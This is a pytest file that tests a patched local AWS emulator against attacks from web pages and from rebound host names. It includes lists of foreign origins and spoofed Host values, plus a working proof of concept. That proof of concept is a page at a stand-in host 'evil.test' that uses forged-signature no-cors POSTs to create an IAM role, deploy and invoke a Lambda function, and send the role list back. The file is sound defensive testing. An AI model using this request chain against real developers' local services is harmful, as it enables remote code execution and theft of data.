import base64
import http.server
import io
import json
import os
import shutil
import subprocess
import threading
import urllib.parse
import zipfile
from collections.abc import Mapping
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any

import pytest
import urllib3

from embedded_aws import EmbeddedAws
from tests.embedded_aws.tenant import Tenant, eventually, get, handshake, signed, unique

LIST_QUEUES = {"X-Amz-Target": "AmazonSQS.ListQueues", "Content-Type": "application/x-amz-json-1.0"}
FOREIGN = [
    {"Origin": "https://evil.test"},
    {"Origin": "null"},
    {"Origin": "http://localhost:3000"},
    {"Origin": ""},
    {"Sec-Fetch-Site": "cross-site"},
    {"Sec-Fetch-Site": "same-site"},  # a page of another port of this machine
    {"Sec-Fetch-Site": "anything"},
]
FOREIGN_HOSTS = [
    *("evil.test", "127.0.0.1.evil.test", "localhost.evil.test", "evil-localhost", "127.0.0.1@evil.test", "10.0.0.1"),
    *("bucket.s3.evil.test", "0a1b2c3d.execute-api.evil.test", "[::1]", "127.0.0.2", "", "localhost."),
]
OWN_HOSTS = ["127.0.0.1", "localhost", "LOCALHOST", "bucket.s3.localhost", "0a1b2c3d.execute-api.localhost"]


def list_queues(account: Tenant, headers: Mapping[str, str]) -> urllib3.BaseHTTPResponse:
    """What the account's root is answered, with a good signature and these headers."""
    headers = {**signed(account, "sqs", "{}", {**LIST_QUEUES, **headers}), **headers}
    return urllib3.request("POST", account.aws.endpoint_url, body="{}", headers=headers, retries=False, timeout=120)


@pytest.mark.parametrize("headers", FOREIGN, ids=str)
def test_what_a_foreign_page_sends_is_refused_though_it_is_signed(account: Tenant, headers: dict[str, str]) -> None:
    answer = list_queues(account, headers)
    assert (answer.status, b"rejects requests from web pages" in answer.data) == (403, True)
    secret = {"Authorization": f"Bearer {account.aws.secret_access_key}"}
    for path in ("/_ministack/health", "/_fault", "/health", "/_ministack/lambda-code/a"):
        assert "rejects requests from web pages" in get(account.aws.endpoint_url + path, {**headers, **secret}).body


@pytest.mark.parametrize("site", ["none", "same-origin"])
def test_what_the_user_types_into_a_browser_is_not_refused(account: Tenant, site: str) -> None:
    own = {"Sec-Fetch-Site": site, "Origin": account.aws.endpoint_url}
    assert list_queues(account, own).status == 200


def test_no_answer_lets_a_page_read_it(account: Tenant) -> None:
    for headers in ({}, {"Origin": account.aws.endpoint_url}, {"Origin": "https://evil.test"}):
        assert [name for name in list_queues(account, headers).headers if "access-control" in name.lower()] == []
    preflight = {"Origin": "https://evil.test", "Access-Control-Request-Method": "PUT"}
    answer = urllib3.request("OPTIONS", account.aws.endpoint_url, headers=preflight, retries=False, timeout=120)
    assert (answer.status, [name for name in answer.headers if "access-control" in name.lower()]) == (403, [])


def test_upstream_still_lets_every_page_read_everything(unpatched_account: Tenant) -> None:
    answer = list_queues(unpatched_account, {"Origin": "https://evil.test", "Host": "evil.test"})
    assert answer.headers["Access-Control-Allow-Origin"] == "*", "upstream fixed this: web_pages may go"


@pytest.mark.parametrize("port", ["", ":80", ":{port}"])
@pytest.mark.parametrize("host", FOREIGN_HOSTS)
def test_a_name_that_somebody_else_resolves_is_refused(account: Tenant, host: str, port: str) -> None:
    name = host + port.format(port=account.aws.port)
    answer = get(account.aws.execute_api_url("0a1b2c3d", "/health"), {"Host": name})
    assert (answer.status, "answers to 127.0.0.1" in answer.body) == (403, True)
    secret = {"Authorization": f"Bearer {account.aws.secret_access_key}"}
    assert get(f"{account.aws.endpoint_url}/_fault", {"Host": name, **secret}).status == 403


@pytest.mark.parametrize("host", OWN_HOSTS)
def test_a_name_of_this_machine_is_not_refused(account: Tenant, host: str) -> None:
    secret = {"Authorization": f"Bearer {account.aws.secret_access_key}"}
    for name in (host, f"{host}:{account.aws.port}"):
        assert get(f"{account.aws.endpoint_url}/_fault", {"Host": name, **secret}).status == 200


def test_an_api_answers_web_pages_itself(aws: EmbeddedAws) -> None:
    tenant, name = Tenant(aws, aws.account_id), unique("pages")
    function = tenant.function(
        "def handler(event, context):\n"
        "    return {'statusCode': 200, 'headers': {'Access-Control-Allow-Origin': 'https://shop.test'}, 'body': 'x'}",
        name=name,
    )
    api = tenant.http_api(function, name)
    tenant.let_in(function, "apigateway.amazonaws.com", f"arn:aws:execute-api:us-east-1:{aws.account_id}:{api}/*/*")
    page = {"Origin": "https://shop.test", "Sec-Fetch-Site": "cross-site"}

    for url, host in (
        (aws.execute_api_url(api, "/health"), {}),
        (f"{aws.endpoint_url}/health", {"Host": f"{api}.execute-api.localhost:{aws.port}"}),
    ):
        answer = urllib3.request("GET", url, headers={**page, **host}, retries=False, timeout=120)
        assert (answer.status, answer.data) == (200, b"x")
        assert answer.headers["Access-Control-Allow-Origin"] == "https://shop.test"


@pytest.mark.parametrize(("host", "status"), [("evil.test", 403), ("localhost", 101)])
def test_a_name_that_somebody_else_resolves_opens_no_websocket(aws: EmbeddedAws, host: str, status: int) -> None:
    gateway = aws.client("apigatewayv2", "us-east-1")
    api = gateway.create_api(Name=unique("chat"), ProtocolType="WEBSOCKET", RouteSelectionExpression="$request.body.a")
    gateway.create_stage(ApiId=api["ApiId"], StageName="dev")
    answer = handshake(aws, f"/_aws/execute-api/{api['ApiId']}/dev", {"Host": host})
    assert answer.startswith(f"HTTP/1.1 {status}")


# A real browser

BROWSER = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
BROWSER_SECONDS = 60
FORGED = (
    "X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential={account}/20261122/us-east-1/{service}/aws4_request"
    "&X-Amz-Date=20261122T000000Z&X-Amz-Expires=604800&X-Amz-SignedHeaders=host&X-Amz-Signature=0"
)
TRUST = {"Effect": "Allow", "Principal": {"Service": "lambda.amazonaws.com"}, "Action": "sts:AssumeRole"}
PAGE = """<script>
const post = ([url, type, body]) =>
  fetch(url, {method: "POST", mode: "no-cors", headers: {"Content-Type": type}, body}).then(() => "sent", String);
const read = url => fetch(url).then(answer => answer.text(), String);
(async () => {
  const sent = [];
  for (const request of REQUESTS) sent.push(await post(request));
  await fetch("/done", {method: "POST", body: JSON.stringify({sent, seen: await read(SECRET)})});
})();
</script>"""


def burglary(account: Tenant, marker: Path) -> tuple[list[tuple[str, str, str]], str]:
    """What a page needs to run code here: three requests without a preflight. And where it would read the roles."""

    def at(service: str, path: str = "/") -> str:
        return f"{account.aws.endpoint_url}{path}?{FORGED.format(account=account.account_id, service=service)}"

    role = {
        "RoleName": "burglar",
        "AssumeRolePolicyDocument": json.dumps({"Version": "2012-10-17", "Statement": TRUST}),
    }
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as file:
        file.writestr("index.py", f"def handler(event, context):\n    open({str(marker)!r}, 'w').close()\n")
    function = {
        **{"FunctionName": "burglar", "Runtime": "python3.11", "Handler": "index.handler", "Timeout": 20},
        "Role": f"arn:aws:iam::{account.account_id}:role/burglar",
        "Code": {"ZipFile": base64.b64encode(archive.getvalue()).decode()},
    }
    form, text = "application/x-www-form-urlencoded", "text/plain"
    action = {"Version": "2010-05-08", "Action": "CreateRole"}
    requests = [
        (at("iam"), form, urllib.parse.urlencode({**action, **role})),
        (at("lambda", "/2015-03-31/functions"), text, json.dumps(function)),
        (at("lambda", "/2015-03-31/functions/burglar/invocations"), text, "{}"),
    ]
    return requests, at("iam") + "&Action=ListRoles&Version=2010-05-08"


class Site(http.server.ThreadingHTTPServer):
    """A foreign site with one page, which says when it is through."""

    def __init__(self, page: str) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.page = page
        self.reported: Any = None


class _Handler(http.server.BaseHTTPRequestHandler):
    server: Site

    def do_GET(self) -> None:
        self._answer(self.server.page.encode())

    def do_POST(self) -> None:
        self.server.reported = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        self._answer(b"")

    def _answer(self, body: bytes) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: Any) -> None:  # noqa: A002 - the library's name
        pass


def shown(page: str, profile: Path) -> Any:
    """What a page of http://evil.test reports once a browser has shown it."""
    command = [
        *(str(BROWSER), "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-breakpad"),
        *(f"--user-data-dir={profile}", "--host-resolver-rules=MAP evil.test 127.0.0.1"),
    ]
    # Chromium leaves a socket among the temporary files, and the path of a socket is short: not that of the profile.
    with Site(page) as site, TemporaryDirectory(prefix="browser-") as temporary:
        threading.Thread(target=site.serve_forever, daemon=True).start()
        with (profile.parent / "browser.log").open("wb") as log:
            browser = subprocess.Popen(
                [*command, f"http://evil.test:{site.server_port}/"],
                env={**os.environ, "TMPDIR": temporary},
                stdout=log,
                stderr=log,
            )
        try:
            eventually(lambda: site.reported is not None or browser.poll() is not None, BROWSER_SECONDS)
        finally:
            browser.terminate()
            browser.wait(120)
            site.shutdown()
    assert site.reported is not None, (profile.parent / "browser.log").read_text()
    return site.reported


@pytest.mark.skipif(BROWSER is None, reason="no chromium on the PATH")
@pytest.mark.parametrize("gets_in", [False, True], ids=["patched", "ministack"])
def test_a_page_in_a_browser_runs_no_code_here(
    request: pytest.FixtureRequest, tmp_path: Path, *, gets_in: bool
) -> None:
    tenant = Tenant(request.getfixturevalue("unpatched_aws" if gets_in else "aws"))
    marker = tmp_path / "was here"
    requests, secret = burglary(tenant, marker)
    page = PAGE.replace("REQUESTS", json.dumps(requests)).replace("SECRET", json.dumps(secret))

    report = shown(page, tmp_path / "profile")

    assert report["sent"] == ["sent"] * 3  # a page cannot see what became of them
    assert marker.exists() == gets_in
    assert ("burglar" in report["seen"]) == gets_in
    assert [role["RoleName"] for role in tenant.client("iam").list_roles()["Roles"]] == ["burglar"] * gets_in


def test_the_same_requests_without_a_browser_run_no_code_either(account: Tenant, tmp_path: Path) -> None:
    requests, _ = burglary(account, tmp_path / "was here")
    for url, content_type, body in requests:
        answer = urllib3.request(
            "POST", url, body=body, headers={"Content-Type": content_type}, retries=False, timeout=120
        )
        assert answer.status == 403
    assert not (tmp_path / "was here").exists()
